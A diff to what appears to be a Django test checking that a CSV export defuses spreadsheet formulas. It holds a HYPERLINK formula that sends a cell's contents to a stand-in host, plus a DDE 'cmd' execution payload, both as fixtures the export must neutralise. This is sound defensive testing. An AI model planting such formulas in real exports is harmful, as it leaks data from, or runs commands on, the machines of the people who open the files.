@@ -220,7 +220,7 @@ def test_export_defuses_formulas_in_every_text_column(owner_client, merchant_a, 
         merchant=merchant_a,
         actor=owner_a,
         tier=bronze,
-        name='=HYPERLINK("https://evil.example/?"&A2,"Gold")',
+        name='=HYPERLINK("http://e.x/?"&A2,"Gold")',  # a tier name has 40 characters at most
         threshold=bronze.threshold,
         multiplier=bronze.multiplier,
     )
@@ -234,7 +234,7 @@ def test_export_defuses_formulas_in_every_text_column(owner_client, merchant_a, 
     content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()
     row = next(csv.DictReader(io.StringIO(content)))
 
-    assert row["tier"] == """'=HYPERLINK("https://evil.example/?"&A2,"Gold")"""
+    assert row["tier"] == """'=HYPERLINK("http://e.x/?"&A2,"Gold")"""
     assert row["first_name"] == "'+cmd|' /C calc'!A0"
     assert row["last_name"] == "'-2+3"
     for name, value in row.items():
